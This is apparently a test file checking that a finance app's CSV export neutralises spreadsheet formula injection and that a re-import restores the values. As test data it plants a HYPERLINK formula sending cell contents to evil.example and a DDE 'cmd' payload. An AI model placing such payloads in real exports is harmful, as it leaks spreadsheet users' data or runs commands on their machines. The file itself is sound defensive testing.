import { schema } from "@fintrack/db";
import { eq } from "drizzle-orm";
import Papa from "papaparse";
import { afterEach, describe, expect, it } from "vitest";
import { applyFlows, flowsOf } from "../lib/ledger-rollups";
import { startTestApp, type TestApp, useTestApp } from "../testing";
import { addAccount, patch, record } from "../transactions/testing";
import { importFile, importingHousehold, liveTransactions } from "./test-helpers";

const app = useTestApp();
const others: TestApp[] = [];
afterEach(async () => {
  for (const other of others.splice(0)) await other.close();
});

/** What OWASP lists as the start of a formula (tab and CR included), and the escape's own quote. */
const PREFIXES = ["=", "+", "-", "@", "'"];
const DANGEROUS = /^[=+\-@\t\r]/;

/** The export without its ID column (reimport-dedupe.test.ts covers that): ids differ per household. */
const withoutIds = (csv: string) => csv.replace(/,(?:ID|[0-9a-f]{8}-[0-9a-f-]{27})\r\n/g, "\r\n");

async function exportOf(client: { get: (p: string) => Promise<{ status: number; data: any }> }) {
  const res = await client.get("/api/imports/export.csv");
  expect(res.status).toBe(200);
  return withoutIds(res.data as string);
}

/** The export as a spreadsheet would see it, read by a parser that is not FinTrack's (papaparse). */
function cellsOf(csv: string): string[][] {
  const parsed = Papa.parse<string[]>(csv.replace(/^\ufeff/, ""), { header: false, skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  return parsed.data;
}

describe("CSV export and formula injection", () => {
  it("no cell begins like a formula, whatever the other member typed, and a re-import restores every value", async () => {
    const h = await importingHousehold(app);
    const { owner, partner } = h;
    const cases = PREFIXES.map((p, i) => ({
      account: `${p}acct${i}`,
      category: `${p}cat${i}`,
      merchant: `${p}HYPERLINK("https://evil.example/?d="&A1,"Refund")`,
      notes: `${p}cmd|' /C calc'!A0`,
      tags: [`${p}tag${i}`, "plain"],
      splitNote: `${p}note${i}`,
    }));
    // the partner plants them through the API, in shared accounts the owner will export
    const ids: string[] = [];
    for (const [i, c] of cases.entries()) {
      const account = await addAccount(partner, { name: c.account, kind: "cash" });
      const category = await partner.post("/api/transactions/categories", {
        name: c.category,
        kind: "expense",
      });
      expect(category.status).toBe(201);
      const other = await partner.post("/api/transactions/categories", {
        name: `other${i}`,
        kind: "expense",
      });
      const t = await record(partner, {
        type: "expense",
        date: `2026-04-0${i + 1}`,
        amount: "100",
        accountId: account,
        merchant: c.merchant,
        notes: c.notes,
        tags: c.tags,
        splits: [
          { categoryId: category.data.id, amount: "60", note: c.splitNote },
          { categoryId: other.data.id, amount: "40" },
        ],
      });
      ids.push(t.id);
      const transfer = await record(partner, {
        type: "transfer",
        date: `2026-04-0${i + 1}`,
        amount: "5",
        accountId: account,
        toAccountId: h.accounts.gcash,
      });
      ids.push(transfer.id);
      // a plain category too, for the Category column itself
      await record(partner, {
        type: "expense",
        date: `2026-04-0${i + 1}`,
        amount: "1",
        accountId: h.accounts.gcash,
        categoryId: category.data.id,
        merchant: c.merchant,
      });
      // a transfer the other way, for the To Account column
      expect(
        (
          await patch(partner, `/api/transactions/${transfer.id}`, {
            accountId: h.accounts.gcash,
            toAccountId: account,
          })
        ).status,
      ).toBe(200);
    }
    // tab and CR cannot be typed at the start of a field (the API trims), but rows written by
    // other paths are escaped all the same
    const tabbed = { merchant: "\t=SUM(1+1)", notes: "\r@SUM(1+1)" };
    const [legacy] = await app.db
      .insert(schema.transactions)
      .values({
        householdId: h.householdId,
        createdBy: h.partnerUser.id,
        type: "expense",
        date: "2026-04-09",
        amountCentavos: 700n,
        accountId: h.accounts.gcash,
        ...tabbed,
      })
      .returning();
    await app.db.transaction((tx) => applyFlows(tx, flowsOf(legacy!, []), 1));

    const csv = await exportOf(owner);
    const cells = cellsOf(csv);
    expect(cells[0]).toContain("Merchant");
    const offending = cells.flatMap((row, r) =>
      row.filter((cell) => DANGEROUS.test(cell)).map((cell) => ({ r, cell })),
    );
    expect(offending).toEqual([]);
    // numbers stay numbers: no quote in front of the date and amount columns
    for (const row of cells.slice(1)) {
      expect(row[0]).toMatch(/^\d{4}-\d{2}-\d{2}$/);
      expect(row[2]).toMatch(/^\d+\.\d{2}$/);
    }

    // another household with the same account names imports it: every value comes back as typed
    const other = await startTestApp();
    others.push(other);
    const h2 = await importingHousehold(other);
    for (const c of cases) await addAccount(h2.owner, { name: c.account, kind: "cash" });
    const batch = await importFile(
      h2.owner,
      csv,
      { defaults: { accountId: h2.accounts.bpi }, createMissingCategories: true },
      "fintrack",
    );
    expect(batch).toMatchObject({ status: "completed", errors: [], report: { unknownAccounts: [] } });
    expect(await exportOf(h2.owner)).toBe(csv);

    const original = await liveTransactions(app, h.householdId);
    const copied = await liveTransactions(other, h2.householdId);
    const text = (rows: typeof original) =>
      rows.map((t) => ({ date: t.date, merchant: t.merchant, notes: t.notes, tags: t.tags }));
    expect(text(copied)).toEqual(text(original));
    expect(text(copied)).toContainEqual({ date: "2026-04-09", ...tabbed, tags: [] });
    const names = async (db: TestApp["db"], householdId: string) => ({
      accounts: (
        await db
          .select({ name: schema.accounts.name })
          .from(schema.accounts)
          .where(eq(schema.accounts.householdId, householdId))
      )
        .map((a) => a.name)
        .sort(),
      categories: (
        await db
          .select({ name: schema.categories.name })
          .from(schema.categories)
          .where(eq(schema.categories.householdId, householdId))
      )
        .map((c) => c.name)
        .sort(),
      splitNotes: (await db.select({ note: schema.transactionSplits.note }).from(schema.transactionSplits))
        .map((s) => s.note)
        .sort(),
    });
    const mine = await names(app.db, h.householdId);
    const theirs = await names(other.db, h2.householdId);
    for (const c of cases) {
      expect(theirs.accounts).toContain(c.account);
      expect(theirs.categories).toContain(c.category);
      expect(theirs.splitNotes).toContain(c.splitNote);
    }
    expect(theirs.splitNotes).toEqual(mine.splitNotes);
    expect(ids.length).toBe(cases.length * 2);
  });
});
